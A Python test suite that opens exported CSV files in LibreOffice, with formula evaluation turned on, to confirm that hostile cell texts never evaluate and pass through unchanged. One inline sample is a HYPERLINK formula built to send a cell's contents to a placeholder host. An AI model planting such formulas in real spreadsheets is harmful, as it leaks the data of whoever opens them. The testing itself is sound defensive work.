"""Every CSV that leaves the building, hostile texts in it, opened with LibreOffice: nothing evaluates, texts stay."""

from __future__ import annotations

import csv
import io
import re
import subprocess
from pathlib import Path

import openpyxl
import pytest

from etl.targets.documents import DOCUMENTS
from tests.programs import office
from tests.targets.test_golden import rendered_files
from tests.targets.test_hostile import FIELDS, HOSTILE, files_or_refusal, knowing, with_cell

FILTER = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"   # formulas evaluated: the worst case
NO_TEXT = re.compile(r"[-+$]?[\d., ]+%?|\d{1,4}[-/.]\d{1,2}[-/.]\d{1,4}|\d+:\d\d(:\d\d)?|(?i:true|false)")


def in_libreoffice(files: dict[str, bytes], folder: Path) -> dict[str, openpyxl.Workbook]:
    """Each file opened by LibreOffice and saved as a workbook."""
    for name, content in files.items():
        (folder / f"{name}.csv").write_bytes(content)
    subprocess.run(
        [*office(), f"--infilter={FILTER}", "--convert-to", "xlsx", "--outdir", str(folder / "out"),
         *(str(folder / f"{name}.csv") for name in files)], capture_output=True, timeout=400, check=True)
    return {name: openpyxl.load_workbook(folder / "out" / f"{name}.xlsx") for name in files}


def csv_files(every: int) -> dict[str, bytes]:
    """By document and heading, one file with the rows of the hostile texts that the document takes.

    `every`: each how many-th text a field is given, the next field another; so a document of some fields has all.
    """
    rows: dict[tuple[str, bytes], dict[bytes, None]] = {}
    columns = [(known, column, text) for turn, (known, column) in enumerate(FIELDS)
               for text in HOSTILE[turn % every :: every]]
    made = [(known, files_or_refusal(known, with_cell(known, column, text), knowing(text)))
            for known, column, text in columns if writes_csv(known)]
    for known, files in made:
        for file in files:
            if file.path.endswith(".csv"):
                heading, *lines = file.content.splitlines(keepends=True)
                rows.setdefault((known.name, heading), {}).update(dict.fromkeys(lines))
    names = [known for known, _ in rows]
    return {f"{name}-{names[:at].count(name)}": heading + b"".join(lines)
            for at, ((name, heading), lines) in enumerate(rows.items())}


def writes_csv(known) -> bool:
    return any(file.path.endswith(".csv") for file in rendered_files(known))


@pytest.fixture(scope="module", name="looked_at", params=[4, pytest.param(1, marks=pytest.mark.long)])
def _looked_at(request, tmp_path_factory):
    files = csv_files(request.param)
    control = {"control": b"text,formula\r\nplain,=1+1\r\n"}
    return files, in_libreoffice(files | control, tmp_path_factory.mktemp("office"))


def test_the_look_would_see_a_formula(looked_at):
    cell = looked_at[1]["control"].active["B2"]
    assert cell.data_type == "f" or cell.value == 2


def test_every_document_with_a_csv_is_looked_at(looked_at):
    names = {name.rpartition("-")[0] for name in looked_at[0]}
    assert names == {known.name for known in DOCUMENTS if writes_csv(known)}


def test_nothing_evaluates_and_texts_stay(looked_at):
    files, books = looked_at
    wrong, seen = [], set()
    for name, content in files.items():
        given = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        sheet = books[name].active
        for row, cells in zip(given, sheet.iter_rows(max_col=len(given[0])), strict=False):
            for text, cell in zip(row, cells, strict=True):
                value = "" if cell.value is None else cell.value
                is_same = value == text if isinstance(value, str) else NO_TEXT.fullmatch(text) is not None
                if cell.data_type in ("f", "e") or not is_same:
                    wrong.append((name, cell.coordinate, text[:60], value))
                seen.add(text)
        assert sheet.max_row == len(given), name
    assert not wrong, wrong[:20]
    for text in ("semi;colon", "Łódź", "地図", '~ =HYPERLINK("http://x/?"&A1,"ok")', "x" * 4000):
        assert any(text in one for one in seen), f"{text} was not in any file"
